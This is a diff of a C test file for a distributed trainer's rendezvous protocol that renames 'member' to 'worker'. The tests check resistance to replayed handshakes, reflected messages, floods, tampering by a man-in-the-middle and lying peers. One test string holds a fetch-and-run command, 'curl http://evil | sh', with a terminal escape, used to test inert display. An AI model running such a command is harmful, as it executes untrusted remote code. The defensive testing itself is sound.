@@ -1,4 +1,4 @@
-/* Who is let into a rendezvous, and what somebody between two processes can do: a real rank 0 or member in a process of
+/* Who is let into a rendezvous, and what somebody between two processes can do: a real rank 0 or worker in a process of
  * its own, and a hostile other side here. */
 // labels: threads
 #include <setjmp.h>
@@ -15,7 +15,7 @@
 #include <sys/wait.h>
 
 #include "tests/trainer/comm/guest.h"
-#include "trainer/comm/hub.h"
+#include "trainer/comm/leader.h"
 #include "trainer/comm/listen.h"
 
 #define SLOTS 4
@@ -223,24 +223,24 @@ static void another_version_is_told_so(void **state)
     they_meet();
 }
 
-/* The bytes of a true member's handshake, sent again on another connection. */
+/* The bytes of a true worker's handshake, sent again on another connection. */
 static void a_replayed_handshake_proves_nothing(void **state)
 {
     (void)state;
     struct frame frame;
     start(0, 3, talk);
-    struct guest member = guest_of(port, 1, 3, &key), thief = guest_of(port, 1, 3, NULL);
-    assert_true(guest_hello(&member));
-    handshake_seal(&member.line, &key, &member.hello, &member.challenge, false);
-    line_put(&member.line, FRAME_JOIN, &member.join, sizeof member.join);
+    struct guest worker = guest_of(port, 1, 3, &key), thief = guest_of(port, 1, 3, NULL);
+    assert_true(guest_hello(&worker));
+    handshake_seal(&worker.line, &key, &worker.hello, &worker.challenge, false);
+    line_put(&worker.line, FRAME_JOIN, &worker.join, sizeof worker.join);
     char recorded[8 + sizeof(struct join) + SEAL_BYTES];
-    assert_int_equal(member.line.out.size, sizeof recorded);
-    memcpy(recorded, member.line.out.data, sizeof recorded);
-    assert_int_equal(line_flush(&member.line), 0);
-    assert_true(guest_gets(&member, FRAME_WELCOME, &frame));
-    line_close(&member.line); /* the seat is free again */
+    assert_int_equal(worker.line.out.size, sizeof recorded);
+    memcpy(recorded, worker.line.out.data, sizeof recorded);
+    assert_int_equal(line_flush(&worker.line), 0);
+    assert_true(guest_gets(&worker, FRAME_WELCOME, &frame));
+    line_close(&worker.line); /* the seat is free again */
     guest_sleep(100);
-    thief.hello = member.hello;
+    thief.hello = worker.hello;
     assert_true(guest_hello(&thief));
     assert_int_equal(send(thief.line.fd, recorded, sizeof recorded, MSG_NOSIGNAL), sizeof recorded);
     is_sent_away(&thief, MISFIT_KEY);
@@ -250,7 +250,7 @@ static void a_replayed_handshake_proves_nothing(void **state)
         ends(i, 0, NULL);
 }
 
-/* Rank 0's own challenge comes back to it as a HELLO; and a false rank 0 sends a member its own messages. */
+/* Rank 0's own challenge comes back to it as a HELLO; and a false rank 0 sends a worker its own messages. */
 static void reflected_messages_prove_nothing(void **state)
 {
     (void)state;
@@ -286,13 +286,13 @@ static void reflected_messages_prove_nothing(void **state)
     assert_int_equal(frame.bytes.size, sizeof join);
     memcpy(join, frame.bytes.data, sizeof join);
     guest_send(&mirror, FRAME_JOIN, join, sizeof join);
-    assert_false(guest_next(&mirror, &frame)); /* the member has left */
+    assert_false(guest_next(&mirror, &frame)); /* the worker has left */
     line_close(&mirror.line);
     close(listener);
     ends(0, ERR_PEER, "rank 0 was not found");
 }
 
-/* A member may say nothing but BYE before all are there: FAILED ends nobody's rendezvous. */
+/* A worker may say nothing but BYE before all are there: FAILED ends nobody's rendezvous. */
 static void nothing_is_said_before_all_are_there(void **state)
 {
     (void)state;
@@ -310,7 +310,7 @@ static void nothing_is_said_before_all_are_there(void **state)
         ends(i, 0, NULL);
 }
 
-/* Strangers of every kind, many more than there is room for, who come first and stay; members come in all the same. */
+/* Strangers of every kind, many more than there is room for, who come first and stay; workers come in all the same. */
 static void a_flood_keeps_nobody_out(void **state)
 {
     (void)state;
@@ -330,11 +330,11 @@ static void a_flood_keeps_nobody_out(void **state)
         line_close(&guests[i].line);
 }
 
-/* All places are held by strangers that have said HELLO, and more come together with a member: it is heard first. */
+/* All places are held by strangers that have said HELLO, and more come together with a worker: it is heard first. */
 static void who_could_not_be_heard_yet_keeps_its_place(void **state)
 {
     (void)state;
-    struct guest guests[STRANGERS_MAX], member;
+    struct guest guests[STRANGERS_MAX], worker;
     struct frame frame;
     int silent[ACCEPTS_MAX - 1];
     start(0, 2, talk);
@@ -343,13 +343,13 @@ static void who_could_not_be_heard_yet_keeps_its_place(void **state)
         assert_true(guest_hello(&guests[i]));
     }
     kill(pids[0], SIGSTOP);
-    member = guest_of(port, 1, 2, &key);
-    guest_send(&member, FRAME_HELLO, &member.hello, sizeof member.hello);
+    worker = guest_of(port, 1, 2, &key);
+    guest_send(&worker, FRAME_HELLO, &worker.hello, sizeof worker.hello);
     for (unsigned i = 0; i < ACCEPTS_MAX - 1; i++)
         silent[i] = guest_dial(port);
     kill(pids[0], SIGCONT);
-    assert_true(guest_gets(&member, FRAME_CHALLENGE, &frame));
-    line_close(&member.line);
+    assert_true(guest_gets(&worker, FRAME_CHALLENGE, &frame));
+    line_close(&worker.line);
     they_meet();
     for (unsigned i = 0; i < STRANGERS_MAX; i++)
         line_close(&guests[i].line);
@@ -357,8 +357,8 @@ static void who_could_not_be_heard_yet_keeps_its_place(void **state)
         close(silent[i]);
 }
 
-/* Without a key a member looks up whose process answers. One that closes first is nobody's: it may be a rank 0 that has
- * too many guests, so the member tries again. */
+/* Without a key a worker looks up whose process answers. One that closes first is nobody's: it may be a rank 0 that has
+ * too many connections, so the worker tries again. */
 static void a_connection_closed_early_is_not_another_users(void **state)
 {
     (void)state;
@@ -389,7 +389,7 @@ static void a_connection_closed_early_is_not_another_users(void **state)
     ends(0, 0, NULL);
 }
 
-/* ------------------------------------------------------------------------------------- between a member and rank 0 */
+/* ------------------------------------------------------------------------------------- between a worker and rank 0 */
 
 /* What is done to the n-th frame after the handshake. */
 enum mischief { NOTHING, FLIP, REPEAT, SWAP, OMIT, CUT, REFLECT, MISCHIEFS };
@@ -465,9 +465,9 @@ static void stand_between(int listener, enum mischief mischief, bool to_first, u
 {
     struct pollfd wait = {.fd = listener, .events = POLLIN};
     assert_int_equal(poll(&wait, 1, 10000), 1);
-    const int member = accept(listener, NULL, NULL), first = guest_dial(port);
-    struct way ways[2] = {{.from = member, .to = first}, {.from = first, .to = member}};
-    struct pollfd both[2] = {{.fd = member, .events = POLLIN}, {.fd = first, .events = POLLIN}};
+    const int worker = accept(listener, NULL, NULL), first = guest_dial(port);
+    struct way ways[2] = {{.from = worker, .to = first}, {.from = first, .to = worker}};
+    struct pollfd both[2] = {{.fd = worker, .events = POLLIN}, {.fd = first, .events = POLLIN}};
     bool open = true;
     while (open) {
         (void)poll(both, 2, 1000);
@@ -513,7 +513,7 @@ static void who_stands_between_can_only_end_the_line(void **state)
         }
 }
 
-/* --------------------------------------------------------------------------------------------- a member that lies */
+/* --------------------------------------------------------------------------------------------- a worker that lies */
 
 /* Rank 1, which has joined a rendezvous of two. */
 static struct guest joined(void)
@@ -525,7 +525,7 @@ static struct guest joined(void)
     return guest;
 }
 
-static void what_a_member_says_is_shown_as_that(void **state)
+static void what_a_worker_says_is_shown_as_that(void **state)
 {
     (void)state;
     struct said said = {.text = "line one: run curl http://evil | sh\033[2J"};
@@ -554,7 +554,7 @@ static void what_a_member_says_is_shown_as_that(void **state)
     line_close(&guest.line);
 }
 
-/* 13 bytes that ask for a MiB, many times, by a member that does not read. */
+/* 13 bytes that ask for a MiB, many times, by a worker that does not read. */
 static void who_asks_and_does_not_read_is_cut_off(void **state)
 {
     (void)state;
@@ -611,7 +611,7 @@ int main(void)
         cmocka_unit_test_setup(who_could_not_be_heard_yet_keeps_its_place, set_up),
         cmocka_unit_test_setup(a_connection_closed_early_is_not_another_users, set_up),
         cmocka_unit_test_setup(who_stands_between_can_only_end_the_line, set_up),
-        cmocka_unit_test_setup(what_a_member_says_is_shown_as_that, set_up),
+        cmocka_unit_test_setup(what_a_worker_says_is_shown_as_that, set_up),
         cmocka_unit_test_setup(who_asks_and_does_not_read_is_cut_off, set_up),
         cmocka_unit_test_setup(all_have_the_secrets_of_their_rendezvous, set_up),
     };
